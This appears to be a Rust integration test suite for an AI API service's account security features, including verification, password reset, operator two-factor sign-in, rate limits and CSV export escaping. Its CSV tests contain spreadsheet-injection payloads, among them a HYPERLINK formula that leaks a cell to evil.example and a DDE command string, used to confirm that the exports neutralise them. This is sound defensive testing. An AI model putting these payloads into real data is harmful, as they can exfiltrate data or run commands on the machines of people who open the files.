//! Accounts people can trust, over HTTP on the harness's database (SQLite, or PostgreSQL with
//! `TEST_HARNESS_BACKEND=postgres`): email verification and what waits for it, password reset
//! by email, two-factor sign-in for operators, sign-up limits, a removed member's keys, CSV
//! cells, control characters at the boundary, Unicode search, file quotas, per-key limits on
//! every `/v1` route, and oversized bodies however they are sent.

use reqwest::StatusCode;
use serde_json::Value;

use crate::completions::api_with;
use crate::compute::operator;
use crate::helpers::*;

#[tokio::test]
async fn a_new_account_is_verified_from_its_letter_and_only_then_gets_credits_keys_and_jobs() {
    let api = api_with(|_| {}).await;
    let app = &api.app;
    let b = app
        .unverified_owner("new@startup.example", "New Startup")
        .await;
    let me = b.me().await;
    assert_eq!(me["email_verified"], false);
    // Browsing works; credits, keys and jobs wait.
    assert_eq!(b.get("/dashboard").await.status(), StatusCode::OK);
    let (status, body) = b
        .json(
            "/api/create_api_key",
            &[("name", "early"), ("expires_in_days", "")],
        )
        .await;
    assert_eq!(
        (status, body),
        (StatusCode::FORBIDDEN, Value::from("Unverified"))
    );
    let r = b
        .client
        .post(format!("{}/playground/chat", app.base))
        .header("origin", &b.origin)
        .json(&serde_json::json!({
            "model": "tiny-chat", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 2
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let (_, credits) = b.json("/api/credits", &[]).await;
    assert!(
        !credits.to_string().contains("Starter credits"),
        "no grant before verification: {credits}"
    );

    // The letter in the outbox has the link; it verifies once and grants the starter credit.
    let letter = app
        .letter_to("new@startup.example", "Verify your email")
        .await;
    assert!(letter.contains("New Startup"), "{letter}");
    let verified = app.verify_from_letter(&b, "new@startup.example").await;
    assert_eq!(verified["email"], "new@startup.example");
    assert_eq!(verified["grants"][0], "$10.00 from Starter credits");
    assert_eq!(b.me().await["email_verified"], true);
    let (_, credits) = b.json("/api/credits", &[]).await;
    assert!(credits.to_string().contains("Starter credits"), "{credits}");
    let token = link_in(&letter, "/verify/")
        .rsplit('/')
        .next()
        .unwrap()
        .to_string();
    let (status, _) = b.json("/api/verify_email", &[("token", &token)]).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let (status, body) = b
        .json(
            "/api/create_api_key",
            &[("name", "now"), ("expires_in_days", "")],
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

#[tokio::test]
async fn one_address_gets_one_starter_grant_however_many_organisations_it_signs_up() {
    let api = api_with(|_| {}).await;
    let app = &api.app;
    let first = app.owner("farmer+1@example.com", "Farm One").await;
    let (_, credits) = first.json("/api/credits", &[]).await;
    assert!(credits.to_string().contains("Starter credits"));
    // The same mailbox under a +tag: verified, but no second grant.
    let second = app
        .unverified_owner("farmer+2@example.com", "Farm Two")
        .await;
    let verified = app
        .verify_from_letter(&second, "farmer+2@example.com")
        .await;
    assert_eq!(verified["grants"], serde_json::json!([]), "{verified}");
    let (_, credits) = second.json("/api/credits", &[]).await;
    assert!(
        !credits.to_string().contains("Starter credits"),
        "{credits}"
    );
    // The program's page lists what its budget went to: one grant, to the first.
    let ops = operator(app).await;
    let (_, programs) = ops.json("/api/programs", &[]).await;
    let starter = programs
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "Starter credits")
        .unwrap();
    let to: Vec<_> = starter["grants"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| {
            (
                g["org_name"].as_str().unwrap(),
                g["amount"].as_str().unwrap(),
            )
        })
        .collect();
    assert!(to.contains(&("Farm One", "$10.00")), "{starter}");
    assert!(!to.iter().any(|(org, _)| *org == "Farm Two"), "{starter}");
}

#[tokio::test]
async fn signing_up_with_a_registered_address_answers_the_same_and_mails_its_owner() {
    let app = spawn_app().await;
    let first = app.browser().sign_up("ada@example.com", "Acme").await;
    let again = app.browser().sign_up("ada@example.com", "Impostor").await;
    assert_eq!(first.status(), again.status());
    assert_eq!(location(&first), location(&again));
    assert_eq!(first.text().await.unwrap(), again.text().await.unwrap());
    let letter = app
        .letter_to("ada@example.com", "You already have a Tokenmill account")
        .await;
    assert!(link_in(&letter, "/forgot").ends_with("/forgot"), "{letter}");
    assert!(!letter.contains("/verify/"));
    assert_eq!(app.letters_to("ada@example.com").len(), 2);
}

#[tokio::test]
async fn sign_ups_from_one_address_are_limited_per_hour() {
    let app = spawn_app_with(|c| c.login_limits.signups_per_ip_hour = 3).await;
    for i in 0..3 {
        let r = app
            .browser()
            .sign_up(&format!("f{i}@farm.example"), "Farm")
            .await;
        assert_eq!(r.status(), StatusCode::OK);
    }
    let r = app.browser().sign_up("f3@farm.example", "Farm").await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(r.headers().contains_key("retry-after"));
    let r = app
        .browser()
        .client
        .post(format!("{}/api/sign_up", app.base))
        .header("origin", &app.origin)
        .header("x-forwarded-for", "198.51.100.4")
        .form(&[
            ("email", "f3@farm.example"),
            ("password", PASSWORD),
            ("org_name", "Farm"),
            ("org_kind", "startup"),
            ("region", "europe"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        StatusCode::OK,
        "another address is not held back"
    );
}

#[tokio::test]
async fn a_forgotten_password_is_reset_from_its_letter_and_every_old_session_ends() {
    let app = spawn_app().await;
    let laptop = app.owner("ada@example.com", "Acme").await;
    let phone = app.browser();
    assert_eq!(
        phone.login("ada@example.com", PASSWORD).await.status(),
        StatusCode::OK
    );

    let stranger = app.browser();
    let (status, known) = stranger
        .json("/api/forgot_password", &[("email", "ada@example.com")])
        .await;
    assert_eq!(status, StatusCode::OK);
    let (_, unknown) = stranger
        .json("/api/forgot_password", &[("email", "ghost@example.com")])
        .await;
    assert_eq!(known, unknown, "no hint which addresses exist");
    assert!(app.letters_to("ghost@example.com").is_empty());

    let letter = app
        .letter_to("ada@example.com", "Reset your Tokenmill password")
        .await;
    let link = link_in(&letter, "/reset/");
    let token = link.rsplit('/').next().unwrap().to_string();
    // The page shows whose password it sets, while the link works.
    let page = stranger
        .get(&format!("/reset/{token}"))
        .await
        .text()
        .await
        .unwrap();
    assert!(page.contains("ada@example.com"));
    let r = stranger
        .post(
            "/api/reset_password",
            &[("token", &token), ("password", "a brand new passphrase")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(laptop.me().await, Value::Null, "old sessions are gone");
    assert_eq!(phone.me().await, Value::Null);
    let (status, _) = stranger
        .json(
            "/api/reset_password",
            &[("token", &token), ("password", "yet another passphrase")],
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "the link works once");
    assert_eq!(
        app.browser()
            .login("ada@example.com", PASSWORD)
            .await
            .status(),
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        app.browser()
            .login("ada@example.com", "a brand new passphrase")
            .await
            .status(),
        StatusCode::OK
    );
}

#[tokio::test]
async fn invitations_are_mailed_to_the_invitee() {
    let app = spawn_app().await;
    let owner = app.owner("owner@a.example", "Org A").await;
    let token = owner.invite("new.member@a.example", "member").await;
    let letter = app.letter_to("new.member@a.example", "Join Org A").await;
    assert!(link_in(&letter, "/invite/").ends_with(&token), "{letter}");
    let member = app.browser();
    member.accept(&token, "a member's long passphrase").await;
    assert_eq!(member.me().await["email_verified"], true);
}

#[tokio::test]
async fn operators_must_set_up_two_factor_sign_in_then_sign_in_with_a_code() {
    let app = spawn_app().await;
    accounts::Accounts::new(app.db().clone(), accounts::LoginLimits::default())
        .create_operator("ops@tokenmill.example", "operator long passphrase")
        .await
        .unwrap();
    let ops = app.browser();
    let r = ops
        .login("ops@tokenmill.example", "operator long passphrase")
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    // Signed in, but nothing works until two-factor sign-in is on.
    assert_eq!(ops.me().await["two_factor_setup_required"], true);
    let (status, body) = ops.json("/api/partners", &[]).await;
    assert_eq!(
        (status, body),
        (StatusCode::FORBIDDEN, Value::from("TwoFactorRequired"))
    );
    let r = ops.get("/audit.csv").await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let secret = ops.enrol_two_factor().await;
    assert_eq!(ops.json("/api/partners", &[]).await.0, StatusCode::OK);

    // The next login asks for a code: the password alone signs nobody in.
    let again = app.browser();
    let r = again
        .login("ops@tokenmill.example", "operator long passphrase")
        .await;
    assert_eq!(location(&r), "/login/code");
    assert_eq!(again.me().await, Value::Null);
    let (status, _) = again.json("/api/login_code", &[("code", "000000")]).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    // The code one step ahead (the one that switched it on was used up).
    let code = accounts::two_factor::code_at(&secret, db::now_ms() + 30_000).unwrap();
    let r = again.post("/api/login_code", &[("code", &code)]).await;
    assert_eq!(location(&r), "/dashboard");
    assert_eq!(again.me().await["is_operator"], true);
    // The same code does not sign in a second time.
    let thief = app.browser();
    thief
        .login("ops@tokenmill.example", "operator long passphrase")
        .await;
    let (status, _) = thief.json("/api/login_code", &[("code", &code)]).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    // Operators cannot switch it off.
    let (status, _) = again
        .json("/api/disable_two_factor", &[("code", "123456")])
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);

    // A lost device: another operator resets it at the command line, which is audited and
    // ends the user's sessions; the next login asks to set it up again.
    accounts::Accounts::new(app.db().clone(), accounts::LoginLimits::default())
        .create_operator("second@tokenmill.example", "operator long passphrase")
        .await
        .unwrap();
    let url = app.test_db.url.clone();
    let out = tokio::task::spawn_blocking(move || {
        std::process::Command::new(env!("CARGO_BIN_EXE_tokenmill"))
            .args([
                "admin",
                "reset-two-factor",
                "--email",
                "ops@tokenmill.example",
            ])
            .args(["--operator", "second@tokenmill.example"])
            .args(["--reason", "lost phone, checked by video call"])
            .env("DATABASE_URL", url)
            .env("RUST_LOG", "warn")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(again.me().await, Value::Null, "its sessions ended");
    let r = again
        .login("ops@tokenmill.example", "operator long passphrase")
        .await;
    assert_eq!(location(&r), "/dashboard");
    assert_eq!(again.me().await["two_factor_setup_required"], true);
    let after: String = db::sqlx::query_scalar(
        "SELECT after_json FROM audit_events WHERE action = 'user.two_factor_reset' \
         AND actor_email = 'second@tokenmill.example'",
    )
    .fetch_one(app.db().pool())
    .await
    .unwrap();
    assert!(after.contains("lost phone"), "{after}");
}

#[tokio::test]
async fn a_removed_members_keys_are_revoked_with_them_and_the_keys_page_says_so() {
    let api = api_with(|_| {}).await;
    let app = &api.app;
    let owner = app.owner("owner@a.example", "Org A").await;
    let token = owner.invite("leaver@a.example", "member").await;
    let member = app.browser();
    member.accept(&token, "a member's long passphrase").await;
    let (status, created) = member
        .json(
            "/api/create_api_key",
            &[("name", "leaver's key"), ("expires_in_days", "")],
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{created}");
    let key = created["secret"].as_str().unwrap().to_string();
    let models = |key: String| {
        let url = format!("{}/v1/models", app.base);
        async move {
            reqwest::Client::new()
                .get(url)
                .bearer_auth(key)
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    assert_eq!(models(key.clone()).await, StatusCode::OK);
    // Used for a completion too, so the key is among those taken as valid from memory.
    let r = reqwest::Client::new()
        .post(format!("{}/v1/completions", app.base))
        .bearer_auth(&key)
        .json(&serde_json::json!({"model": "tiny-chat", "prompt": "hi", "max_tokens": 1}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    app.settled().await;

    let (_, team) = owner.json("/api/team", &[]).await;
    let id = team["members"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["email"] == "leaver@a.example")
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        owner.json("/api/remove_member", &[("id", &id)]).await.0,
        StatusCode::OK
    );
    assert_eq!(models(key.clone()).await, StatusCode::UNAUTHORIZED);
    let r = reqwest::Client::new()
        .post(format!("{}/v1/completions", app.base))
        .bearer_auth(&key)
        .json(&serde_json::json!({"model": "tiny-chat", "prompt": "hi", "max_tokens": 1}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    let (_, list) = owner.json("/api/api_keys", &[]).await;
    assert_eq!(list[0]["status"], "revoked: member removed");
    let audited: i64 = db::sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_events WHERE action = 'member.remove' AND target_id = $1",
    )
    .bind(&id)
    .fetch_one(app.db().pool())
    .await
    .unwrap();
    assert_eq!(audited, 1);
}

/// Every cell of a CSV: what a spreadsheet would read.
fn cells(csv: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// No cell a spreadsheet would run: a risky first character only behind a `'`, unless the
/// cell is a plain number.
fn assert_no_formula(csv: &str) {
    for cell in cells(csv) {
        let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
            || (cell.starts_with('-') && cell[1..].parse::<f64>().is_err());
        assert!(!risky, "a live formula cell {cell:?} in\n{csv}");
    }
}

const EVIL: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;

#[tokio::test]
async fn a_formula_in_a_partners_name_or_an_adjustment_is_text_in_its_statement_csv() {
    let app = spawn_app().await;
    let ops = operator(&app).await;
    let (evil, partner_id) = crate::compute::partner(&app, &ops, EVIL, "owner@evil.example").await;
    // The partner's first statement month is the current one, open as a draft.
    let last = statements::Period::of_ms(db::now_ms()).to_string();
    let (status, body) = ops
        .json(
            "/api/create_adjustment",
            &[
                ("partner_id", &partner_id),
                ("period", &last),
                ("kind", "credit"),
                ("amount", "1.25"),
                ("reason", "+1+cmd|' /C calc'!A0"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    for file in ["statement.csv", "usage.csv"] {
        let r = evil
            .get(&format!("/statements/{partner_id}/{last}/{file}"))
            .await;
        assert_eq!(r.status(), StatusCode::OK, "{file}");
        let csv = r.text().await.unwrap();
        assert_no_formula(&csv);
        if file == "statement.csv" {
            let cells = cells(&csv);
            assert!(cells.contains(&format!("'{EVIL}")), "kept as text: {csv}");
            assert!(
                cells.contains(&"'+1+cmd|' /C calc'!A0".to_string()),
                "{csv}"
            );
            assert!(cells.contains(&"1.250000000".to_string()), "{csv}");
        }
    }
}

#[tokio::test]
async fn a_formula_in_an_actors_email_is_text_in_the_audit_csv() {
    let app = spawn_app().await;
    accounts::Accounts::new(app.db().clone(), accounts::LoginLimits::default())
        .create_operator("-ops@tokenmill.example", "operator long passphrase")
        .await
        .unwrap();
    let ops = app.browser();
    ops.login("-ops@tokenmill.example", "operator long passphrase")
        .await;
    ops.enrol_two_factor().await;
    let (status, body) = ops
        .json(
            "/api/create_partner",
            &[
                ("name", "@SUM(1+1)"),
                ("region", "europe"),
                ("owner_email", "x@sum.example"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let r = ops.get("/audit.csv").await;
    assert_eq!(r.status(), StatusCode::OK);
    let audit = r.text().await.unwrap();
    assert!(
        cells(&audit).contains(&"'-ops@tokenmill.example".to_string()),
        "{audit}"
    );
    assert_no_formula(&audit);
}

#[tokio::test]
async fn a_formula_in_a_program_name_is_text_in_the_credits_history_csv() {
    let app = spawn_app().await;
    let ops = operator(&app).await;
    let (status, body) = ops
        .json(
            "/api/create_program",
            &[
                ("form[name]", "-2+3 credits"),
                ("form[sponsor]", "vendor"),
                ("form[startup]", "on"),
                ("form[grant_amount]", "5"),
                ("form[grant_lifetime_days]", "30"),
                ("form[budget]", "100"),
                ("form[auto_on_signup]", "on"),
                ("form[requires_verified_email]", "on"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let tenant = app.owner("t@tenant.example", "Tenant").await;
    let r = tenant.get("/credits/history.csv").await;
    assert_eq!(r.status(), StatusCode::OK);
    let csv = r.text().await.unwrap();
    assert!(csv.contains("'-2+3 credits: sign-up"), "{csv}");
    assert!(csv.ends_with(",5.00\n"), "amounts stay numbers: {csv}");
    assert_no_formula(&csv);
}

#[tokio::test]
async fn a_formula_in_a_model_id_is_text_in_the_usage_csv() {
    let api = api_with(|c| c.engine.models[0].0 = "-tiny".into()).await;
    api.ok(
        "/v1/completions",
        &serde_json::json!({"model": "-tiny", "prompt": "abc", "max_tokens": 2}),
    )
    .await;
    api.app.settled().await;
    let owner = api.app.browser();
    owner.login("dev@startup.example", PASSWORD).await;
    let r = owner.get("/usage.csv?days=7").await;
    assert_eq!(r.status(), StatusCode::OK);
    let csv = r.text().await.unwrap();
    assert!(cells(&csv).contains(&"'-tiny".to_string()), "{csv}");
    assert_no_formula(&csv);
}

#[tokio::test]
async fn control_characters_are_refused_with_the_field_named() {
    let api = api_with(|_| {}).await;
    let app = &api.app;
    let owner = app.owner("owner@a.example", "Org A").await;
    let (status, body) = owner
        .json(
            "/api/create_api_key",
            &[("name", "bad\0name"), ("expires_in_days", "")],
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(body["Field"]["field"], "name");
    assert!(body.to_string().contains("NUL"), "{body}");
    let (status, body) = owner
        .json(
            "/api/create_api_key",
            &[("name", "two\nlines"), ("expires_in_days", "")],
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    let (_, keys) = owner.json("/api/api_keys", &[]).await;
    assert_eq!(keys, serde_json::json!([]), "nothing was created");

    let ops = operator(app).await;
    for (path, field) in [
        ("/api/organizations", "search"),
        ("/api/audit_entries", "search"),
    ] {
        let (status, body) = ops.json(path, &[(field, "a\0b")]).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{path}: {body}");
        assert_eq!(body["Field"]["field"], field, "{path}");
    }
    let r = ops.get("/audit.csv?q=%00").await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    assert!(r.text().await.unwrap().contains("q contains a NUL"));

    // A file with a raw NUL byte is refused, naming the line.
    let form = reqwest::multipart::Form::new()
        .text("purpose", "batch")
        .part(
            "file",
            reqwest::multipart::Part::bytes(b"{\"a\":1}\n{\"b\":\0}\n".to_vec())
                .file_name("x.jsonl"),
        );
    let r = api
        .http
        .post(format!("{}/v1/files", app.base))
        .bearer_auth(&api.key)
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let body: Value = r.json().await.unwrap();
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("Line 2"),
        "{body}"
    );

    // A batch line whose custom_id holds \u0000 fails alone.
    let good = r#"{"custom_id":"ok","method":"POST","url":"/v1/completions","body":{"model":"tiny-chat","prompt":"hi","max_tokens":1}}"#;
    let bad = r#"{"custom_id":"x\u0000y","method":"POST","url":"/v1/completions","body":{"model":"tiny-chat","prompt":"hi","max_tokens":1}}"#;
    let file = api.upload(format!("{good}\n{bad}\n")).await;
    let r = api
        .post(
            "/v1/batches",
            &serde_json::json!({
                "input_file_id": file["id"], "endpoint": "/v1/completions",
                "completion_window": "24h"
            }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let batch: Value = r.json().await.unwrap();
    let ended = api.ended_batch(batch["id"].as_str().unwrap()).await;
    assert_eq!(ended["request_counts"]["completed"], 1, "{ended}");
    assert_eq!(ended["request_counts"]["failed"], 1, "{ended}");
}

#[tokio::test]
async fn organisation_search_folds_unicode_case() {
    let app = spawn_app().await;
    app.owner("a@aero.example", "Ærø Øresund").await;
    app.owner("b@strasse.example", "Große Straße GmbH").await;
    let ops = operator(&app).await;
    for (search, found) in [
        ("ærø", "Ærø Øresund"),
        ("ØRESUND", "Ærø Øresund"),
        ("STRASSE", "Große Straße GmbH"),
        ("große", "Große Straße GmbH"),
    ] {
        let (status, list) = ops.json("/api/organizations", &[("search", search)]).await;
        assert_eq!(status, StatusCode::OK, "{list}");
        let names: Vec<_> = list
            .as_array()
            .unwrap()
            .iter()
            .map(|o| o["name"].as_str().unwrap())
            .collect();
        assert_eq!(names, vec![found], "{search}");
    }
}

#[tokio::test]
async fn files_are_held_to_the_quota_and_deleting_gives_the_room_back() {
    let api = api_with(|c| {
        c.file_quota = batches::FileQuota {
            max_files: 3,
            max_bytes: 3 << 20,
        }
    })
    .await;
    let app = &api.app;
    let line = r#"{"custom_id":"a","method":"POST","url":"/v1/completions","body":{"model":"tiny-chat","prompt":"hi","max_tokens":1}}"#;
    let big = format!("{line}\n{}\n", " ".repeat(1_400_000));
    let upload = |content: String| async {
        let form = reqwest::multipart::Form::new()
            .text("purpose", "batch")
            .part(
                "file",
                reqwest::multipart::Part::text(content).file_name("x.jsonl"),
            );
        api.http
            .post(format!("{}/v1/files", app.base))
            .bearer_auth(&api.key)
            .multipart(form)
            .send()
            .await
            .unwrap()
    };
    let pages = || async {
        let pages: i64 = db::sqlx::query_scalar("PRAGMA page_count")
            .fetch_one(app.db().pool())
            .await
            .unwrap();
        pages
    };
    let first: Value = upload(big.clone()).await.json().await.unwrap();
    upload(big.clone()).await;
    let r = upload(big.clone()).await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "file_quota_exceeded", "{body}");
    upload(format!("{line}\n")).await;
    let r = upload(format!("{line}\n")).await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN, "three files at most");

    let sqlite = app.db().backend() == db::Backend::Sqlite;
    let before = if sqlite { pages().await } else { 0 };
    let r = api
        .http
        .delete(format!(
            "{}/v1/files/{}",
            app.base,
            first["id"].as_str().unwrap()
        ))
        .bearer_auth(&api.key)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    if sqlite {
        let after = pages().await;
        assert!(
            before - after >= 300,
            "1.4 MB of pages given back: {before} -> {after}"
        );
    }
    assert_eq!(upload(big).await.status(), StatusCode::OK);
}

#[tokio::test]
async fn every_v1_route_counts_against_the_keys_rate_limit() {
    let api = api_with(|c| c.key_rpm = std::num::NonZeroU32::new(4).unwrap()).await;
    let mut statuses = Vec::new();
    for path in [
        "/v1/models",
        "/v1/files",
        "/v1/batches",
        "/v1/models",
        "/v1/files",
    ] {
        statuses.push(api.get(path).await.0);
    }
    assert_eq!(statuses[..4], [StatusCode::OK; 4]);
    assert_eq!(statuses[4], StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test]
async fn a_chunked_server_function_body_over_the_limit_is_413() {
    let app = spawn_app().await;
    let chunks: Vec<Result<Vec<u8>, std::io::Error>> = (0..20)
        .map(|_| Ok(format!("email={}&", "a".repeat(8_000)).into_bytes()))
        .collect();
    let r = app
        .browser()
        .client
        .post(format!("{}/api/login", app.base))
        .header("origin", &app.origin)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
            chunks,
        )))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
}
